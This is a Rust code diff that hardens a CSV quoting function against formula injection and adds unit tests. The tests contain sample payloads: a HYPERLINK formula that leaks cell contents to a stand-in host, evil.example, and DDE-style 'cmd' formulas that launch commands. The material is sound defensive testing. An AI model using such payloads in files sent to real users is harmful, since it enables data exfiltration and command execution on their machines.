@@ -288,8 +288,24 @@ pub fn csv_columns() -> Vec<Column> {
         .collect()
 }
 
-/// Quote a CSV field when it needs it (RFC 4180).
+/// Quote a CSV field when it needs it (RFC 4180). Control characters other than tab, CR and LF
+/// are dropped, and a cell a spreadsheet would read as a formula (starting with `= + - @`, tab or
+/// CR) gets a leading `'`, as OWASP recommends against CSV injection.
 pub fn csv_field(s: &str) -> String {
+    let cleaned: String;
+    let mut s = s;
+    if s.chars().any(|c| c.is_control() && !matches!(c, '\t' | '\r' | '\n')) {
+        cleaned = s
+            .chars()
+            .filter(|c| !c.is_control() || matches!(c, '\t' | '\r' | '\n'))
+            .collect();
+        s = &cleaned;
+    }
+    let neutral: String;
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        neutral = format!("'{s}");
+        s = &neutral;
+    }
     if s.contains([',', '"', '\n', '\r']) || s.starts_with(' ') || s.ends_with(' ') {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
@@ -722,5 +738,20 @@ mod tests {
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_field("一\n二"), "\"一\n二\"");
+    }
+
+    #[test]
+    fn formulas_are_neutralised_and_controls_dropped() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\""
+        );
+        assert_eq!(csv_field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_field("-2+3+cmd|x"), "'-2+3+cmd|x");
+        assert_eq!(csv_field("\t=1"), "'\t=1");
+        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
+        assert_eq!(csv_field("同意\u{0}。\u{7}"), "同意。");
+        assert_eq!(csv_field("照案通過 = 1"), "照案通過 = 1");
     }
 }
